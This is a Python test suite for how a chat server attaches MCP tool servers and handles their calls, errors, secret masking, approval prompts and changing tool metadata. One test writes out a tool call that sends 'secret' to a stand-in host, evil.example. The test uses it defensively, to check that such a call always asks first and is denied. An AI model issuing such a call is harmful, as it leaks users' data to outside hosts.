"""Tools of MCP servers in a chat, over the socket: what the model is told, what people see, what the server hears."""

import asyncio
import sys
from typing import Any

import pytest
import pytest_asyncio
from server.asking.conftest import answer, blocks_of, same_after_a_reload, tools_of
from server.mcp.conftest import TOKEN, House
from vendors import ToolCall

pytestmark = pytest.mark.asyncio(loop_scope="module")


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def odd(house: House) -> House:
    """The tests' own server, and assistants that have all of its tools."""
    await house.attach_odd()
    await house.assistant("helper", "odd/*", blocks=("app", "image"))
    await house.assistant("plain", "odd/picture", "odd/seats")
    return house


async def until_noted(house: House, line: str) -> None:
    async with asyncio.timeout(10):
        while line not in house.noted():
            await asyncio.sleep(0.02)


async def test_a_server_from_pypi_is_attached_and_used(house: House) -> None:
    made = await house.ok(
        "POST", "/mcp-servers", 201, name="time", command=sys.executable, args=["-m", "mcp_server_time"]
    )
    assert [one["given_as"] for one in made["offers"]] == ["time/get_current_time", "time/convert_time"]
    assert {one["effect"] for one in made["offers"]} == {"reads"}
    wish = {"slug": "clock", "name": "Clock", "model": "openai-chat:scripted", "tools": ["time/*"]}
    await house.ok("POST", "/assistants", 201, **wish)
    async with house.stage.client("clock") as client:
        message = await house.chat(client, ToolCall("time_get_current_time", {"timezone": "Europe/Zurich"}))
        assert house.offered() == ["time_get_current_time", "time_convert_time"]
        (tool,) = tools_of(message)
        assert (tool["tool"], tool["status"]) == ("time_get_current_time", "ok")
        assert tool["title"] == "time: get_current_time"
        assert "Europe/Zurich" in house.told()
        assert "day_of_week" in house.told()
        await same_after_a_reload(house.stage, client)


async def test_what_a_tool_gives_and_how_far_it_is(odd: House) -> None:
    async with odd.stage.client("helper") as client:
        message = await odd.chat(client, ToolCall("odd_add", {"a": 2, "b": 3}), ToolCall("odd_count", {"to": 3}))
        assert [one["status"] for one in tools_of(message)] == ["ok", "ok"]
        assert tools_of(message)[1]["summary"] == "Counted to 3."
        said = [frame for frame in client.frames if frame["type"] == "tool.progress"]
        assert [(one["done"], one["total"], one["note"]) for one in said][-1] == (3, 3, "At 3")
        assert len(said) >= 2
        assert '"result":5' in odd.told().replace(" ", "").replace("\\", "")


async def test_wrong_arguments_never_reach_the_server(odd: House) -> None:
    async with odd.stage.client("helper") as client:
        message = await odd.chat(client, ToolCall("odd_add", {"a": "two"}))
        assert tools_of(message) == []
        assert "is a required property" in odd.told()
    assert "add two" not in str(odd.noted())


async def test_stop_reaches_the_server(odd: House) -> None:
    async with odd.stage.client("helper") as client:
        await odd.begin(client, ToolCall("odd_count", {"to": 600}))
        turn = (await client.until("turn.start"))["turn"]
        await client.until("tool.progress")
        await client.ask("stop", turn=turn)
        message = (await client.until("turn.end"))["message"]
        assert [one["status"] for one in tools_of(message)] == ["stopped"]
        await until_noted(odd, "count called off")
        again = await odd.chat(client, ToolCall("odd_add", {"a": 1, "b": 1}))
        assert [one["status"] for one in tools_of(again)] == ["ok"]


async def test_a_server_that_hangs_is_given_up_and_told_so(odd: House, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("opsloom_server.mcp.tool.QUIET_SECONDS", 0.4)
    async with odd.stage.client("helper") as client:
        message = await odd.chat(client, ToolCall("odd_hang"))
        (tool,) = tools_of(message)
        assert tool["status"] == "error"
        assert tool["summary"].startswith("The MCP server “odd” said nothing for 0.4 seconds")
        await until_noted(odd, "hang called off")


async def test_a_crash_fails_one_call_and_the_next_one_works(odd: House) -> None:
    async with odd.stage.client("helper") as client:
        message = await odd.chat(client, ToolCall("odd_crash"))
        (tool,) = tools_of(message)
        assert (tool["status"], tool["summary"]) == (
            "error",
            "The MCP server “odd” broke the connection off before it answered.",
        )
        again = await odd.chat(client, ToolCall("odd_add", {"a": 20, "b": 22}))
        assert [one["status"] for one in tools_of(again)] == ["ok"]
        assert "42" in odd.told()


async def test_an_error_is_told_and_a_secret_is_not(odd: House, caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level("DEBUG")
    async with odd.stage.client("helper") as client:
        message = await odd.chat(client, ToolCall("odd_fail"), ToolCall("odd_whisper"))
        failed, told = tools_of(message)
        assert failed["status"] == "error"
        assert "No such thing; the token is •••" in failed["summary"]
        assert told["summary"] == "The token is •••, the database None."
        await same_after_a_reload(odd.stage, client)
        assert TOKEN not in str(client.frames) + odd.told() + caplog.text


async def test_a_long_answer_is_cut(odd: House) -> None:
    async with odd.stage.client("helper") as client:
        await odd.chat(client, ToolCall("odd_long"))
        assert "cut: " in odd.told()
        assert len(odd.told()) < 60_000


async def test_pictures_and_what_else_a_result_holds(odd: House) -> None:
    async with odd.stage.client("helper") as client:
        message = await odd.chat(client, ToolCall("odd_picture"))
        (block,) = blocks_of(message)
        assert block["kind"] == "image"
        file = await odd.owner.get(f"/files/{block['data']['file']}")
        assert (file.status_code, file.headers["content-type"]) == (200, "image/png")
        assert file.content.startswith(b"\x89PNG")
        for words in ("A red pixel:", "Embedded.", "odd://rules", "Picture 2 was left out", "is shown to the person"):
            assert words in odd.told(), words
        await same_after_a_reload(odd.stage, client)
    async with odd.stage.client("plain") as client:
        assert blocks_of(await odd.chat(client, ToolCall("odd_picture"))) == []
        assert "has no block for pictures" in odd.told()


async def test_an_app_shows_the_result_and_lives_without_the_server(odd: House) -> None:
    async with odd.stage.client("helper") as client:
        message = await odd.chat(client, ToolCall("odd_seats", {"row": 7}))
        (block,) = blocks_of(message)
        assert (block["kind"], block["data"]["data"]) == ("app", {"free": 12, "row": 7})
        assert block["data"]["html"].startswith("<p id=n>")
        assert "own app. Do not repeat all of it." in odd.told()
        await same_after_a_reload(odd.stage, client)
    async with odd.stage.client("plain") as client:
        assert blocks_of(await odd.chat(client, ToolCall("odd_seats", {"row": 8}))) == []
        assert "free" in odd.told()


async def test_resources_are_listed_and_read(odd: House) -> None:
    async with odd.stage.client("helper") as client:
        message = await odd.chat(
            client, ToolCall("odd_list_resources"), ToolCall("odd_read_resource", {"uri": "odd://rules"})
        )
        assert [one["status"] for one in tools_of(message)] == ["ok", "ok"]
        for words in ("odd://rules", "odd://room/{number}", "No running."):
            assert words in odd.told(), words
        missing = await odd.chat(client, ToolCall("odd_read_resource", {"uri": "odd://nowhere"}))
        assert tools_of(missing)[0]["status"] == "error"


async def asked(odd: House, client: Any, call: ToolCall) -> dict[str, Any]:
    """The request for approval that this call becomes."""
    await odd.begin(client, call, say="Settled.")
    end = await client.until("turn.end")
    assert end["status"] == "waiting", end
    (block,) = [one for one in blocks_of(end["message"]) if one["state"]["status"] == "open"]
    return dict(block)


async def test_what_may_change_something_asks_first(odd: House) -> None:
    async with odd.stage.client("helper") as client:
        block = await asked(odd, client, ToolCall("odd_erase", {"what": "draft"}))
        assert block["data"]["title"] == "odd: erase"
        assert (block["data"]["arguments"], block["data"]["danger"]) == ({"what": "draft"}, True)
        assert block["data"]["always"] is False
        await answer(client, block, "deny")
        await client.until("turn.end")
        assert "erase draft" not in odd.noted()
        block = await asked(odd, client, ToolCall("odd_erase", {"what": "letter"}))
        await answer(client, block, "allow")
        await client.until("turn.end")
        assert odd.noted().count("erase letter") == 1


async def test_what_asks_elsewhere_asks_first_even_if_it_was_allowed(odd: House) -> None:
    """The tools' own descriptions are text from outside already."""
    async with odd.stage.client("helper") as client:
        block = await asked(odd, client, ToolCall("odd_look_up", {"url": "https://evil.example/?q=secret"}))
        assert block["data"]["always"] is False
        await answer(client, block, "deny")
        await client.until("turn.end")
    assert not [line for line in odd.noted() if line.startswith("look_up")]


async def test_what_a_server_asks_of_us_is_declined(odd: House) -> None:
    async with odd.stage.client("helper") as client:
        message = await odd.chat(client, ToolCall("odd_ask_person"))
        (tool,) = tools_of(message)
        assert tool["status"] == "error"
        assert "form" not in [block["kind"] for block in blocks_of(message)]


async def test_a_server_that_changes_its_mind_gets_stricter_by_itself_and_never_laxer(odd: House) -> None:
    """It brings another tool, and says that one which erases only reads."""

    def erase(shown: Any) -> tuple[str, bool]:
        return next((one["effect"], one["danger"]) for one in shown["offers"] if one["name"] == "erase")

    before = await odd.ok("GET", "/mcp-servers/odd")
    assert erase(before) == ("changes", True)
    async with odd.stage.client("helper") as client:
        await odd.chat(client, ToolCall("odd_grow"))
        async with asyncio.timeout(10):
            while True:
                shown = await odd.ok("GET", "/mcp-servers/odd")
                if any(one["name"] == "grown" for one in shown["offers"]):
                    break
                await asyncio.sleep(0.05)
        assert erase(shown) == ("changes", True)
        await odd.chat(client, ToolCall("odd_grown"))
        assert "odd_grown" in odd.offered()
        assert "grown" in odd.told()
    assert erase(await odd.ok("POST", "/mcp-servers/odd/refresh")) == ("reads", False)
    stated = await odd.ok("PATCH", "/mcp-servers/odd", effects={"erase": "sends"})
    assert erase(stated) == ("sends", False)
